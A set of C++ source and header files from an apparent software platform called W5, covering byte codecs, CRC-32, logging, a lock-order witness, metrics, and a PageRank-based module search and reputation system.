std::string b64_encode_impl(std::string_view bytes, const char* alphabet,
                            bool pad) {
  std::string out;
  out.reserve((bytes.size() + 2) / 3 * 4);
  std::size_t i = 0;
  while (i + 3 <= bytes.size()) {
    const std::uint32_t n = (static_cast<std::uint8_t>(bytes[i]) << 16) |
                            (static_cast<std::uint8_t>(bytes[i + 1]) << 8) |
                            static_cast<std::uint8_t>(bytes[i + 2]);
    out.push_back(alphabet[(n >> 18) & 63]);
    out.push_back(alphabet[(n >> 12) & 63]);
    out.push_back(alphabet[(n >> 6) & 63]);
    out.push_back(alphabet[n & 63]);
    i += 3;
  }
  const std::size_t rem = bytes.size() - i;
  if (rem == 1) {
    const std::uint32_t n = static_cast<std::uint8_t>(bytes[i]) << 16;
    out.push_back(alphabet[(n >> 18) & 63]);
    out.push_back(alphabet[(n >> 12) & 63]);
    if (pad) out.append("==");
  } else if (rem == 2) {
    const std::uint32_t n = (static_cast<std::uint8_t>(bytes[i]) << 16) |
                            (static_cast<std::uint8_t>(bytes[i + 1]) << 8);
    out.push_back(alphabet[(n >> 18) & 63]);
    out.push_back(alphabet[(n >> 12) & 63]);
    out.push_back(alphabet[(n >> 6) & 63]);
    if (pad) out.push_back('=');
  }
  return out;
}

std::optional<std::string> b64_decode_impl(std::string_view text,
                                           const char* alphabet) {
  std::array<int, 256> lut;
  lut.fill(-1);
  for (int i = 0; i < 64; ++i)
    lut[static_cast<std::uint8_t>(alphabet[i])] = i;

  // Strip trailing padding.
  while (!text.empty() && text.back() == '=') text.remove_suffix(1);

  std::string out;
  out.reserve(text.size() * 3 / 4);
  std::uint32_t acc = 0;
  int bits = 0;
  for (char c : text) {
    const int v = lut[static_cast<std::uint8_t>(c)];
    if (v < 0) return std::nullopt;
    acc = (acc << 6) | static_cast<std::uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out.push_back(static_cast<char>((acc >> bits) & 0xff));
    }
  }
  // A single leftover symbol (6 bits) cannot encode a byte.
  if (bits >= 6) return std::nullopt;
  return out;
}

}  // namespace

std::string hex_encode(std::string_view bytes) {
  std::string out;
  out.reserve(bytes.size() * 2);
  for (char c : bytes) {
    const auto b = static_cast<std::uint8_t>(c);
    out.push_back(kHexDigits[b >> 4]);
    out.push_back(kHexDigits[b & 0xf]);
  }
  return out;
}

std::optional<std::string> hex_decode(std::string_view hex) {
  if (hex.size() % 2 != 0) return std::nullopt;
  std::string out;
  out.reserve(hex.size() / 2);
  for (std::size_t i = 0; i < hex.size(); i += 2) {
    const int hi = hex_value(hex[i]);
    const int lo = hex_value(hex[i + 1]);
    if (hi < 0 || lo < 0) return std::nullopt;
    out.push_back(static_cast<char>((hi << 4) | lo));
  }
  return out;
}

std::string base64_encode(std::string_view bytes) {
  return b64_encode_impl(bytes, kB64, /*pad=*/true);
}

std::optional<std::string> base64_decode(std::string_view text) {
  return b64_decode_impl(text, kB64);
}

std::string base64url_encode(std::string_view bytes) {
  return b64_encode_impl(bytes, kB64Url, /*pad=*/false);
}

std::optional<std::string> base64url_decode(std::string_view text) {
  return b64_decode_impl(text, kB64Url);
}

namespace {

// Table for the reflected polynomial 0xEDB88320, built once at startup.
struct Crc32Table {
  std::uint32_t entries[256];
  Crc32Table() {
    for (std::uint32_t i = 0; i < 256; ++i) {
      std::uint32_t c = i;
      for (int bit = 0; bit < 8; ++bit)
        c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : (c >> 1);
      entries[i] = c;
    }
  }
};

const Crc32Table& crc_table() {
  static const Crc32Table table;
  return table;
}

}  // namespace

std::uint32_t crc32_update(std::uint32_t crc, std::string_view bytes) {
  const auto& table = crc_table().entries;
  std::uint32_t c = crc ^ 0xFFFFFFFFu;
  for (const char ch : bytes)
    c = table[(c ^ static_cast<std::uint8_t>(ch)) & 0xFFu] ^ (c >> 8);
  return c ^ 0xFFFFFFFFu;
}

std::uint32_t crc32(std::string_view bytes) { return crc32_update(0, bytes); }

}  // namespace w5::util
