// Minimal leveled logger with a swappable sink.
//
// The default sink writes to stderr; tests install a capturing sink. The
// platform's *audit log* (core/audit.h) is separate — this logger is for
// operational diagnostics only and must never receive user data (DESIGN.md
// §5 E7 asserts no secret bytes appear in diagnostics).
#pragma once

#include <functional>
#include <iosfwd>
#include <sstream>
#include <string>
#include <string_view>

namespace w5::util {

enum class LogLevel { kDebug, kInfo, kWarn, kError };

std::string_view to_string(LogLevel level);

using LogSink = std::function<void(LogLevel, std::string_view message)>;

// Replaces the process-wide sink; returns the previous one.
LogSink set_log_sink(LogSink sink);

// A sink that emits one structured JSON object per line to `out`
// ({"level":...,"trace":...,"message":...}), suitable for log shippers.
// `out` must outlive the sink. The trace field is the current request's
// trace id when the logging thread is inside a traced request, else "".
LogSink make_json_sink(std::ostream& out);

// Thread-local trace stamp for the JSON sink. core/trace maintains it
// while a RequestContext is installed on the thread; util owns the slot
// so the base library never depends on core. The slot holds a *pointer*
// into the live RequestContext's id (install/restore is one store, no
// string copy on the request path); the pointee must stay valid until
// the ref is cleared or replaced. Pass nullptr to clear.
void set_thread_trace_ref(const std::string* id);
const std::string& thread_trace_id();

// Messages below this level are dropped before reaching the sink.
void set_log_threshold(LogLevel level);

void log(LogLevel level, std::string_view message);

namespace detail {
template <typename... Args>
std::string concat(Args&&... args) {
  std::ostringstream os;
  (os << ... << args);
  return os.str();
}
}  // namespace detail

template <typename... Args>
void log_debug(Args&&... args) {
  log(LogLevel::kDebug, detail::concat(std::forward<Args>(args)...));
}
template <typename... Args>
void log_info(Args&&... args) {
  log(LogLevel::kInfo, detail::concat(std::forward<Args>(args)...));
}
template <typename... Args>
void log_warn(Args&&... args) {
  log(LogLevel::kWarn, detail::concat(std::forward<Args>(args)...));
}
template <typename... Args>
void log_error(Args&&... args) {
  log(LogLevel::kError, detail::concat(std::forward<Args>(args)...));
}

}  // namespace w5::util
