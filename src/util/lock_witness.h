// Runtime lock-order witness (DESIGN.md §19).
//
// The static half of the deadlock story is tools/w5flow.cpp pass 2: it
// extracts the lock-acquisition graph from the scoped-guard sites and
// checks it against the declared ranks in tools/w5flow_lock_order.txt.
// A textual analyzer is necessarily heuristic (virtual calls, function
// pointers, and locks passed by reference are invisible to it), so this
// is the half that backs the claim at runtime: every blocking acquire of
// a ranked util::Mutex / util::SharedMutex checks the acquiring thread's
// held-lock stack and aborts the process on a rank inversion — turning
// a would-be deadlock into a deterministic failure with both lock names
// in the message, on whichever of the 654 tests first drives the
// inverted pair.
//
// Cost model: enabled only when W5_LOCK_WITNESS is defined (the default
// CMake configuration defines it for every build type except Release).
// When disabled the macros below expand to nothing and Mutex carries no
// extra state. When enabled, acquire/release are a scan of a thread-
// local array whose depth is the thread's current lock-nesting level
// (almost always 0-2).
//
// Semantics:
//   - rank 0 (the default) means "unranked": the lock is invisible to
//     the witness. Everything in src/ is ranked (w5flow enforces it);
//     ad-hoc mutexes in tests stay unranked unless a test opts in.
//   - equal ranks may nest (sibling instances of one class — the store
//     shards, the trace slots — whose order the owning code fixes).
//   - try_lock never blocks, so successful try-acquisitions are neither
//     checked nor tracked; a lock only taken via try_lock (the exemplar
//     store) cannot close a wait cycle as long as nothing blocks on it.
//   - condition-variable waits release/reacquire the underlying std
//     mutex invisibly; the witness, like the Clang TSA model, treats
//     the capability as held across the wait. The thread is blocked for
//     the duration, so it cannot acquire anything else meanwhile.
#pragma once

#include <cstddef>

#if defined(W5_LOCK_WITNESS)

namespace w5::util::witness {

// Checks the rank against the calling thread's held stack (aborting the
// process with a diagnostic on inversion or overflow), then records the
// hold. Call immediately before the blocking acquire. No-op for rank 0.
void acquire(const void* mu, int rank, const char* name);

// Forgets the hold. Call on unlock; unlock order need not be LIFO (the
// early-unlock guards drop locks out of order). Unknown pointers are
// ignored (rank-0 locks are never recorded).
void release(const void* mu);

// Current thread's tracked-hold depth — test hook.
std::size_t held_depth();

}  // namespace w5::util::witness

#define W5_WITNESS_ACQUIRE(mu, rank, name) \
  ::w5::util::witness::acquire((mu), (rank), (name))
#define W5_WITNESS_RELEASE(mu) ::w5::util::witness::release((mu))

#else  // !W5_LOCK_WITNESS — release builds: the witness compiles away.

#define W5_WITNESS_ACQUIRE(mu, rank, name) ((void)0)
#define W5_WITNESS_RELEASE(mu) ((void)0)

#endif  // W5_LOCK_WITNESS
