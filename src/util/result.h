// Result<T, E>: lightweight expected-style error handling.
//
// Security denials (flow violations, quota exhaustion, auth failures) are
// *expected outcomes* in W5, not programming errors, so they travel as
// values rather than exceptions (exceptions remain for logic errors).
#pragma once

#include <cassert>
#include <string>
#include <utility>
#include <variant>

namespace w5::util {

// A minimal error payload: machine-readable code plus human-readable detail.
struct Error {
  std::string code;    // stable, e.g. "flow.denied", "auth.bad_password"
  std::string detail;  // free-form context for logs and debugging

  friend bool operator==(const Error&, const Error&) = default;
};

inline Error make_error(std::string code, std::string detail = {}) {
  return Error{std::move(code), std::move(detail)};
}

template <typename T, typename E = Error>
class [[nodiscard]] Result {
 public:
  Result(T value) : storage_(std::in_place_index<0>, std::move(value)) {}
  Result(E error) : storage_(std::in_place_index<1>, std::move(error)) {}

  bool ok() const noexcept { return storage_.index() == 0; }
  explicit operator bool() const noexcept { return ok(); }

  const T& value() const& {
    assert(ok());
    return std::get<0>(storage_);
  }
  T& value() & {
    assert(ok());
    return std::get<0>(storage_);
  }
  T&& value() && {
    assert(ok());
    return std::get<0>(std::move(storage_));
  }

  const E& error() const& {
    assert(!ok());
    return std::get<1>(storage_);
  }

  // value_or: fall back when the operation failed.
  template <typename U>
  T value_or(U&& fallback) const& {
    return ok() ? std::get<0>(storage_) : T(std::forward<U>(fallback));
  }

  // map: transform the success value, propagating errors untouched.
  template <typename F>
  auto map(F&& f) const& -> Result<decltype(f(std::declval<const T&>())), E> {
    if (ok()) return f(value());
    return error();
  }

  friend bool operator==(const Result&, const Result&) = default;

 private:
  std::variant<T, E> storage_;
};

// Result<void>: success carries no payload.
template <typename E>
class [[nodiscard]] Result<void, E> {
 public:
  Result() : error_{}, ok_(true) {}
  Result(E error) : error_(std::move(error)), ok_(false) {}

  static Result success() { return Result(); }

  bool ok() const noexcept { return ok_; }
  explicit operator bool() const noexcept { return ok_; }

  const E& error() const& {
    assert(!ok_);
    return error_;
  }

  friend bool operator==(const Result&, const Result&) = default;

 private:
  E error_;
  bool ok_;
};

using Status = Result<void, Error>;

inline Status ok_status() { return Status::success(); }

}  // namespace w5::util
