// Metrics: thread-safe counters, gauges, and fixed-bucket histograms.
//
// The hot path is lock-free — every update is one relaxed atomic RMW on a
// metric the caller resolved once (the registry hands out stable
// references; resolution takes the registry mutex, updates never do).
// Rendering (/metrics) walks the registry under its mutex and reads the
// atomics; values observed mid-scrape are torn only across metrics, never
// within one, which is the standard Prometheus contract.
//
// The telemetry invariant (DESIGN.md §11): metric names carry routes,
// label/tag names, shard indices, and codes — never user data bytes.
// Whoever registers a metric owns that promise; the observability leak
// test greps every telemetry channel to keep it honest.
//
// Building with -DW5_NO_TELEMETRY=ON compiles every update out (the
// registry still renders, serving zeros) so E13 can price the
// instrumentation against a true no-op baseline.
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "util/json.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::util {

#if defined(W5_NO_TELEMETRY)
inline constexpr bool kTelemetryEnabled = false;
#else
inline constexpr bool kTelemetryEnabled = true;
#endif

// For components that keep their own raw atomic counters (store shards,
// flow cache) rather than depending on the registry: increments compile
// out together with the rest of the telemetry plane.
inline void telemetry_count(std::atomic<std::uint64_t>& counter,
                            std::uint64_t n = 1) noexcept {
#ifndef W5_NO_TELEMETRY
  counter.fetch_add(n, std::memory_order_relaxed);
#else
  (void)counter;
  (void)n;
#endif
}

class Counter {
 public:
  void inc(std::uint64_t n = 1) noexcept { telemetry_count(value_, n); }
  std::uint64_t value() const noexcept {
    return value_.load(std::memory_order_relaxed);
  }

 private:
  std::atomic<std::uint64_t> value_{0};
};

class Gauge {
 public:
  void set(std::int64_t v) noexcept {
#ifndef W5_NO_TELEMETRY
    value_.store(v, std::memory_order_relaxed);
#else
    (void)v;
#endif
  }
  void add(std::int64_t delta) noexcept {
#ifndef W5_NO_TELEMETRY
    value_.fetch_add(delta, std::memory_order_relaxed);
#else
    (void)delta;
#endif
  }
  std::int64_t value() const noexcept {
    return value_.load(std::memory_order_relaxed);
  }

 private:
  std::atomic<std::int64_t> value_{0};
};

// Fixed-bucket histogram: bounds are inclusive upper edges ("le"), plus an
// implicit +Inf bucket. Percentiles are derived from the buckets by linear
// interpolation, so p50/p90/p99 cost one snapshot walk and no per-sample
// storage.
class Histogram {
 public:
  // A bucket's most recent traced observation (DESIGN.md §16): `ref` is a
  // trace id — names/ids only, never user data bytes — so a p99 bucket
  // points at a concrete slow request resolvable at /trace/:id.
  struct Exemplar {
    std::string ref;
    std::int64_t value = 0;
  };

  explicit Histogram(std::vector<std::int64_t> bounds = default_latency_bounds());

  Histogram(const Histogram&) = delete;
  Histogram& operator=(const Histogram&) = delete;

  void observe(std::int64_t value) noexcept;

  // observe() plus exemplar capture: remembers `trace_ref` against the
  // bucket the value lands in. Best-effort — the exemplar store is a
  // try_lock so a contended update drops the exemplar, never blocks the
  // hot path; the observation itself always counts.
  void observe_with_exemplar(std::int64_t value,
                             std::string_view trace_ref) noexcept;

  // Per-bucket exemplars, parallel to bucket_counts(); empty ref = none.
  std::vector<Exemplar> exemplars() const;

  std::uint64_t count() const noexcept {
    return count_.load(std::memory_order_relaxed);
  }
  std::int64_t sum() const noexcept {
    return sum_.load(std::memory_order_relaxed);
  }

  // p in [0, 100]. Interpolates within the winning bucket; values landing
  // in the +Inf bucket report the largest finite bound. Returns 0 when
  // empty.
  double percentile(double p) const;

  const std::vector<std::int64_t>& bounds() const noexcept { return bounds_; }
  // Per-bucket (non-cumulative) counts; size bounds().size() + 1, last is
  // the +Inf overflow bucket.
  std::vector<std::uint64_t> bucket_counts() const;

  // Microsecond latency edges spanning 25 µs .. 1 s.
  static std::vector<std::int64_t> default_latency_bounds();

 private:
  std::vector<std::int64_t> bounds_;
  std::vector<std::atomic<std::uint64_t>> buckets_;  // bounds_.size() + 1
  std::atomic<std::uint64_t> count_{0};
  std::atomic<std::int64_t> sum_{0};
  // Exemplar slots, one per bucket. A leaf try_lock off the hot path:
  // observe() never touches it; observe_with_exemplar() skips the write
  // when contended.
  mutable Mutex exemplar_mutex_{lockrank::kMetricsExemplar,
                                "Histogram::exemplar_mutex_"};
  std::vector<Exemplar> exemplars_ W5_GUARDED_BY(exemplar_mutex_);
};

// Escapes a metric name's {label="value"} block for the Prometheus text
// exposition: backslash, double quote, and newline inside label values
// become \\, \", \n. Names without a label block pass through untouched.
// Exposed for tests; to_prometheus() applies it to every emitted name.
std::string prometheus_safe_name(const std::string& name);

// Named metric registry, one per Provider. Names follow Prometheus
// conventions and may embed labels ('w5_requests_total{route="/stats"}');
// the renderer groups families by the name before '{'.
//
// Lock order: the registry mutex is a leaf — held only across the name
// map, never while calling into any other component. Metric references
// stay valid for the registry's lifetime (values are heap-allocated and
// never erased), so callers resolve once and update lock-free thereafter.
class MetricsRegistry {
 public:
  MetricsRegistry() = default;

  MetricsRegistry(const MetricsRegistry&) = delete;
  MetricsRegistry& operator=(const MetricsRegistry&) = delete;

  Counter& counter(const std::string& name);
  Gauge& gauge(const std::string& name);
  // Bounds are fixed at first registration; later calls with the same
  // name return the existing histogram regardless of `bounds`.
  Histogram& histogram(const std::string& name,
                       std::vector<std::int64_t> bounds = {});

  // Prometheus text exposition format (0.0.4).
  std::string to_prometheus() const;
  // {"counters": {...}, "gauges": {...}, "histograms": {name: {count,
  //  sum, p50, p90, p99, buckets: [{le, count}...]}}}
  Json to_json() const;

 private:
  mutable Mutex mutex_{lockrank::kMetricsRegistry, "MetricsRegistry::mutex_"};
  std::map<std::string, std::unique_ptr<Counter>> counters_ W5_GUARDED_BY(mutex_);
  std::map<std::string, std::unique_ptr<Gauge>> gauges_ W5_GUARDED_BY(mutex_);
  std::map<std::string, std::unique_ptr<Histogram>> histograms_
      W5_GUARDED_BY(mutex_);
};

}  // namespace w5::util
