// Byte-string codecs: hex and base64 (RFC 4648).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace w5::util {

std::string hex_encode(std::string_view bytes);
std::optional<std::string> hex_decode(std::string_view hex);

std::string base64_encode(std::string_view bytes);
std::optional<std::string> base64_decode(std::string_view text);

// URL-safe variant (RFC 4648 §5), unpadded; used for session tokens.
std::string base64url_encode(std::string_view bytes);
std::optional<std::string> base64url_decode(std::string_view text);

// CRC-32 (IEEE 802.3, reflected): frames every write-ahead-log record so
// recovery can detect torn or bit-rotted tails (DESIGN.md §13). Resumable:
// feed the previous return value back as `crc` to checksum a byte stream
// in pieces; crc32(data) == crc32_update(crc32_update(0, a), b) for any
// split of data into a || b.
std::uint32_t crc32(std::string_view bytes);
std::uint32_t crc32_update(std::uint32_t crc, std::string_view bytes);

}  // namespace w5::util
