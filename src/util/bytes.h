// Byte-string codecs: hex and base64 (RFC 4648).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace w5::util {

std::string hex_encode(std::string_view bytes);
std::optional<std::string> hex_decode(std::string_view hex);

std::string base64_encode(std::string_view bytes);
std::optional<std::string> base64_decode(std::string_view text);

// URL-safe variant (RFC 4648 §5), unpadded; used for session tokens.
std::string base64url_encode(std::string_view bytes);
std::optional<std::string> base64url_decode(std::string_view text);

}  // namespace w5::util
