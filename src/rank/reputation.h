// Editors, popularity, and developer reputation (paper §3.2).
//
// "One can also imagine the emergence of W5 editors, who collect, audit
// and vet software collections ... These editors can establish
// reputations based on various popularity metrics mined from users'
// preferences." This module aggregates the three §3.2 trust signals that
// are not graph-structural: editor endorsements, usage popularity, and
// per-developer reputation rolled up from module scores.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace w5::rank {

class EditorBoard {
 public:
  // An editor vouches for a module with a confidence in (0, 1].
  void endorse(const std::string& editor, const std::string& module_id,
               double confidence = 1.0);
  void revoke(const std::string& editor, const std::string& module_id);

  // Editors gain weight as users adopt what they endorse: credit(editor)
  // is called by the platform when an endorsed module is actually used.
  void credit(const std::string& editor, double amount = 1.0);

  // Combined endorsement score for a module: sum over endorsing editors
  // of confidence * editor_weight (weights normalized to max 1).
  double endorsement_score(const std::string& module_id) const;

  double editor_weight(const std::string& editor) const;
  std::vector<std::string> editors() const;

  // Editors who endorsed this module (for adoption crediting: §3.2
  // "editors can establish reputations based on various popularity
  // metrics mined from users' preferences").
  std::vector<std::string> endorsers_of(const std::string& module_id) const;

 private:
  // editor -> (module -> confidence)
  std::map<std::string, std::map<std::string, double>> endorsements_;
  std::map<std::string, double> credit_;
};

class PopularityTracker {
 public:
  void record_use(const std::string& module_id, std::uint64_t count = 1);

  std::uint64_t uses(const std::string& module_id) const;

  // Normalized popularity in [0, 1] (log-scaled against the maximum).
  double popularity_score(const std::string& module_id) const;

 private:
  std::map<std::string, std::uint64_t> uses_;
};

// Developer reputation: mean of their modules' combined scores; the §3.2
// promise that "applications written by top-ranked developers would
// receive top placement".
std::map<std::string, double> developer_reputation(
    const std::vector<std::pair<std::string, double>>& module_scores);

}  // namespace w5::rank
