#include "rank/depgraph.h"

namespace w5::rank {

std::uint32_t DependencyGraph::add_node(const std::string& module_id) {
  const auto it = index_.find(module_id);
  if (it != index_.end()) return it->second;
  const auto node = static_cast<std::uint32_t>(names_.size());
  index_.emplace(module_id, node);
  names_.push_back(module_id);
  return node;
}

std::optional<std::uint32_t> DependencyGraph::find(
    const std::string& module_id) const {
  const auto it = index_.find(module_id);
  if (it == index_.end()) return std::nullopt;
  return it->second;
}

const std::string& DependencyGraph::name_of(std::uint32_t node) const {
  return names_.at(node);
}

void DependencyGraph::add_edge(const std::string& from, const std::string& to,
                               DependencyKind kind) {
  if (from == to) return;
  const std::uint32_t a = add_node(from);
  const std::uint32_t b = add_node(to);
  const std::uint64_t key = (static_cast<std::uint64_t>(a) << 32) | b;
  auto& seen = edge_seen_[{key, static_cast<std::uint8_t>(kind)}];
  if (seen) return;
  seen = true;
  edges_.push_back(Edge{a, b, kind});
}

std::vector<std::uint32_t> DependencyGraph::out_degrees() const {
  std::vector<std::uint32_t> degrees(names_.size(), 0);
  for (const Edge& edge : edges_) ++degrees[edge.from];
  return degrees;
}

std::vector<std::string> DependencyGraph::unreferenced() const {
  std::vector<bool> referenced(names_.size(), false);
  for (const Edge& edge : edges_) referenced[edge.to] = true;
  std::vector<std::string> out;
  for (std::size_t i = 0; i < names_.size(); ++i)
    if (!referenced[i]) out.push_back(names_[i]);
  return out;
}

}  // namespace w5::rank
