#include "rank/search.h"

#include <algorithm>

#include "util/strings.h"

namespace w5::rank {

CodeSearch::CodeSearch(const DependencyGraph& graph,
                       const EditorBoard& editors,
                       const PopularityTracker& popularity,
                       SearchWeights weights)
    : graph_(graph),
      editors_(editors),
      popularity_(popularity),
      weights_(weights) {}

void CodeSearch::add_entry(SearchEntry entry) {
  entries_.push_back(std::move(entry));
}

void CodeSearch::refresh(const PageRankOptions& options) {
  const PageRankResult result = pagerank(graph_, options);
  pagerank_ = result.ranked(graph_);
  // Normalize to [0, 1] by the max score so weights are comparable
  // across graph sizes.
  double max_score = 0.0;
  for (const auto& [id, score] : pagerank_)
    max_score = std::max(max_score, score);
  if (max_score > 0) {
    for (auto& [id, score] : pagerank_) score /= max_score;
  }
}

std::optional<double> CodeSearch::pagerank_of(
    const std::string& module_id) const {
  for (const auto& [id, score] : pagerank_)
    if (id == module_id) return score;
  return std::nullopt;
}

std::vector<SearchHit> CodeSearch::search(const std::string& query,
                                          std::size_t limit) const {
  const std::string needle = util::to_lower(query);
  std::vector<SearchHit> hits;
  for (const auto& entry : entries_) {
    if (!needle.empty()) {
      const std::string haystack =
          util::to_lower(entry.module_id + " " + entry.description);
      if (haystack.find(needle) == std::string::npos) continue;
    }
    SearchHit hit;
    hit.module_id = entry.module_id;
    hit.pagerank_score = pagerank_of(entry.module_id).value_or(0.0);
    hit.editor_score = editors_.endorsement_score(entry.module_id);
    hit.popularity_score = popularity_.popularity_score(entry.module_id);
    hit.score = weights_.pagerank * hit.pagerank_score +
                weights_.editors * hit.editor_score +
                weights_.popularity * hit.popularity_score;
    if (entry.antisocial) hit.score *= 0.5;  // editorial downranking
    hits.push_back(std::move(hit));
  }
  std::stable_sort(hits.begin(), hits.end(), [](const auto& a, const auto& b) {
    return a.score > b.score;
  });
  if (hits.size() > limit) hits.resize(limit);
  return hits;
}

}  // namespace w5::rank
