// PageRank over the module dependency graph (paper §3.2: "where PageRank
// uses the structure of the Web's hyperlink graph to infer a page's
// suitability, a W5 'code search' could use the structure of the
// dependency graph among modules to infer a module's suitability").
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "rank/depgraph.h"

namespace w5::rank {

struct PageRankOptions {
  double damping = 0.85;
  double epsilon = 1e-9;       // L1 convergence threshold
  std::size_t max_iterations = 200;
  // Optional per-kind edge weights (html embeds count less than imports
  // by default: linking to an app is weaker vouching than linking its
  // code into your own).
  double import_weight = 1.0;
  double embed_weight = 0.5;
};

struct PageRankResult {
  std::vector<double> scores;   // indexed by node; sums to ~1
  std::size_t iterations = 0;
  bool converged = false;

  // Convenience: scores keyed by module id, descending.
  std::vector<std::pair<std::string, double>> ranked(
      const DependencyGraph& graph) const;
};

PageRankResult pagerank(const DependencyGraph& graph,
                        const PageRankOptions& options = {});

}  // namespace w5::rank
