// Module dependency graph (paper §3.2).
//
// "Code fragment A can depend on code fragment B in two ways. First, A is
// an application that renders HTML ... that points to an application that
// uses B's code. Second, A imports B as a library." Both edge kinds are
// collected here; the PageRank-style ranker treats an edge A→B as A
// vouching for B, exactly as hyperlinks vouch for pages.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

namespace w5::rank {

enum class DependencyKind : std::uint8_t {
  kImport,     // A imports B as a library
  kHtmlEmbed,  // A's rendered HTML links to an app using B
};

struct Edge {
  std::uint32_t from = 0;
  std::uint32_t to = 0;
  DependencyKind kind = DependencyKind::kImport;
};

class DependencyGraph {
 public:
  // Returns the node index for the module id, creating it if new.
  std::uint32_t add_node(const std::string& module_id);

  std::optional<std::uint32_t> find(const std::string& module_id) const;
  const std::string& name_of(std::uint32_t node) const;

  // Self-edges are dropped (a module cannot vouch for itself); duplicate
  // edges of the same kind are idempotent.
  void add_edge(const std::string& from, const std::string& to,
                DependencyKind kind);

  std::size_t node_count() const noexcept { return names_.size(); }
  std::size_t edge_count() const noexcept { return edges_.size(); }

  const std::vector<Edge>& edges() const noexcept { return edges_; }

  // Outgoing dependency counts per node (used for rank normalization).
  std::vector<std::uint32_t> out_degrees() const;

  // Modules nothing depends on (rank sinks-in-reverse; useful diagnostics).
  std::vector<std::string> unreferenced() const;

 private:
  std::map<std::string, std::uint32_t> index_;
  std::vector<std::string> names_;
  std::vector<Edge> edges_;
  std::map<std::pair<std::uint64_t, std::uint8_t>, bool> edge_seen_;
};

}  // namespace w5::rank
