#include "rank/reputation.h"

#include <algorithm>
#include <cmath>

namespace w5::rank {

void EditorBoard::endorse(const std::string& editor,
                          const std::string& module_id, double confidence) {
  confidence = std::clamp(confidence, 0.0, 1.0);
  if (confidence == 0.0) return;
  endorsements_[editor][module_id] = confidence;
  credit_.try_emplace(editor, 1.0);  // baseline weight
}

void EditorBoard::revoke(const std::string& editor,
                         const std::string& module_id) {
  const auto it = endorsements_.find(editor);
  if (it != endorsements_.end()) it->second.erase(module_id);
}

void EditorBoard::credit(const std::string& editor, double amount) {
  credit_[editor] += amount;
}

double EditorBoard::editor_weight(const std::string& editor) const {
  const auto it = credit_.find(editor);
  if (it == credit_.end()) return 0.0;
  double max_credit = 0.0;
  for (const auto& [name, value] : credit_)
    max_credit = std::max(max_credit, value);
  return max_credit == 0.0 ? 0.0 : it->second / max_credit;
}

double EditorBoard::endorsement_score(const std::string& module_id) const {
  double score = 0.0;
  for (const auto& [editor, modules] : endorsements_) {
    const auto it = modules.find(module_id);
    if (it != modules.end()) score += it->second * editor_weight(editor);
  }
  return score;
}

std::vector<std::string> EditorBoard::endorsers_of(
    const std::string& module_id) const {
  std::vector<std::string> out;
  for (const auto& [editor, modules] : endorsements_)
    if (modules.contains(module_id)) out.push_back(editor);
  return out;
}

std::vector<std::string> EditorBoard::editors() const {
  std::vector<std::string> out;
  for (const auto& [editor, modules] : endorsements_) out.push_back(editor);
  return out;
}

void PopularityTracker::record_use(const std::string& module_id,
                                   std::uint64_t count) {
  uses_[module_id] += count;
}

std::uint64_t PopularityTracker::uses(const std::string& module_id) const {
  const auto it = uses_.find(module_id);
  return it == uses_.end() ? 0 : it->second;
}

double PopularityTracker::popularity_score(
    const std::string& module_id) const {
  const std::uint64_t count = uses(module_id);
  if (count == 0) return 0.0;
  std::uint64_t max_count = 0;
  for (const auto& [id, uses] : uses_) max_count = std::max(max_count, uses);
  return std::log1p(static_cast<double>(count)) /
         std::log1p(static_cast<double>(max_count));
}

std::map<std::string, double> developer_reputation(
    const std::vector<std::pair<std::string, double>>& module_scores) {
  std::map<std::string, std::pair<double, std::size_t>> sums;
  for (const auto& [module_id, score] : module_scores) {
    const std::size_t slash = module_id.find('/');
    const std::string developer =
        slash == std::string::npos ? module_id : module_id.substr(0, slash);
    auto& [sum, count] = sums[developer];
    sum += score;
    ++count;
  }
  std::map<std::string, double> out;
  for (const auto& [developer, aggregate] : sums)
    out[developer] = aggregate.first / static_cast<double>(aggregate.second);
  return out;
}

}  // namespace w5::rank
