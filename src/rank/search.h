// Code search: the user-facing module finder combining every §3.2 signal.
//
// score = w_rank   * pagerank(module)     (graph-structural trust)
//       + w_editor * endorsement(module)  (editors / audits)
//       + w_pop    * popularity(module)   (mined user preferences)
// with a text-match gate over name/description. The weights are exposed
// so experiments can ablate each signal (bench_rank).
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "rank/depgraph.h"
#include "rank/pagerank.h"
#include "rank/reputation.h"

namespace w5::rank {

struct SearchWeights {
  double pagerank = 0.6;
  double editors = 0.25;
  double popularity = 0.15;
};

struct SearchEntry {
  std::string module_id;
  std::string description;
  // Anti-social flag (§3.2): proprietary data formats etc. Editorial
  // downranking, not a ban — the paper is explicit that "nothing in W5
  // prevents such behavior".
  bool antisocial = false;
};

struct SearchHit {
  std::string module_id;
  double score = 0.0;
  double pagerank_score = 0.0;
  double editor_score = 0.0;
  double popularity_score = 0.0;
};

class CodeSearch {
 public:
  CodeSearch(const DependencyGraph& graph, const EditorBoard& editors,
             const PopularityTracker& popularity,
             SearchWeights weights = {});

  void add_entry(SearchEntry entry);

  // Recomputes PageRank (call after the graph changes).
  void refresh(const PageRankOptions& options = {});

  // Empty query matches everything; otherwise case-insensitive substring
  // over module id and description.
  std::vector<SearchHit> search(const std::string& query,
                                std::size_t limit = 10) const;

  std::optional<double> pagerank_of(const std::string& module_id) const;

 private:
  const DependencyGraph& graph_;
  const EditorBoard& editors_;
  const PopularityTracker& popularity_;
  SearchWeights weights_;
  std::vector<SearchEntry> entries_;
  std::vector<std::pair<std::string, double>> pagerank_;  // normalized 0..1
};

}  // namespace w5::rank
