#include "rank/pagerank.h"

#include <algorithm>
#include <cmath>

namespace w5::rank {

PageRankResult pagerank(const DependencyGraph& graph,
                        const PageRankOptions& options) {
  const std::size_t n = graph.node_count();
  PageRankResult result;
  if (n == 0) return result;

  // Per-node total outgoing weight.
  std::vector<double> out_weight(n, 0.0);
  const auto weight_of = [&](const Edge& edge) {
    return edge.kind == DependencyKind::kImport ? options.import_weight
                                                : options.embed_weight;
  };
